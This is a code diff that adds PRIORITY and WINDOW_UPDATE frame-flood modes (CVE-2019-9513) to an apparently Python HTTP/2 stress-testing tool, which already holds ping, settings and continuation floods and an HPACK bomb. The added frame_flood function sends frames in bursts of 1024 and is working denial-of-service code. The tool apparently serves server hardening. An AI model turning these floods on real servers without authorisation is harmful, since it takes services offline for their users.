@@ -15,6 +15,9 @@ Modes (CVE classes from docs/hardening.md and the reliability reference):
                       (CVE-2024-30255)
   ping-flood          PING frames as fast as the socket takes them, never reading the ACKs
   settings-flood      SETTINGS frames likewise, never reading the ACKs
+  priority-flood      PRIORITY frames that need no answer, as fast as the server reads them
+                      (CVE-2019-9513)
+  window-update-flood WINDOW_UPDATE frames of 1 on the connection, likewise
   streams-over-limit  --streams requests left open (no END_STREAM); counts what the server
                       refuses (REFUSED_STREAM) against its SETTINGS_MAX_CONCURRENT_STREAMS
   hpack-bomb          one large `cookie` header put in the HPACK dynamic table, then header
@@ -37,8 +40,10 @@ from hyperframe.frame import (
     GoAwayFrame,
     HeadersFrame,
     PingFrame,
+    PriorityFrame,
     RstStreamFrame,
     SettingsFrame,
+    WindowUpdateFrame,
 )
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -340,6 +345,27 @@ def control_flood(a, args, kind):
     a.report(mode=f"{kind}-flood")
 
 
+def frame_flood(a, args, kind):
+    """Frames that ask for no answer (PRIORITY, or WINDOW_UPDATE of 1 on the connection),
+    as fast as the server reads them: nothing piles up, so only the server's own fairness
+    keeps other connections served (CVE-2019-9513's resource loop; Envoy bounds it with
+    max_inbound_priority_frames_per_stream and max_requests_per_io_cycle)."""
+    a.handshake()
+    if kind == "priority":
+        frame = PriorityFrame(1, depends_on=0, stream_weight=16).serialize()
+    else:
+        frame = WindowUpdateFrame(0, window_increment=1).serialize()
+    burst = frame * 1024
+    frames = 0
+    while frames < args.count and a.time_left() > 0 and not a.summary["closed"]:
+        if not a.send(burst, frames=1024):
+            break
+        frames += 1024
+        a.read(0)
+    a.drain(1.0)
+    a.report(mode=f"{kind}-flood")
+
+
 class StreamTracker(Attack):
     """Follows which of our streams the server refused, reset or answered."""
 
@@ -456,6 +482,8 @@ ATTACKS = {
     "continuation-flood": (Attack, continuation_flood),
     "ping-flood": (Attack, lambda a, args: control_flood(a, args, "ping")),
     "settings-flood": (Attack, lambda a, args: control_flood(a, args, "settings")),
+    "priority-flood": (Attack, lambda a, args: frame_flood(a, args, "priority")),
+    "window-update-flood": (Attack, lambda a, args: frame_flood(a, args, "window-update")),
     "streams-over-limit": (StreamTracker, streams_over_limit),
     "hpack-bomb": (Attack, hpack_bomb),
 }
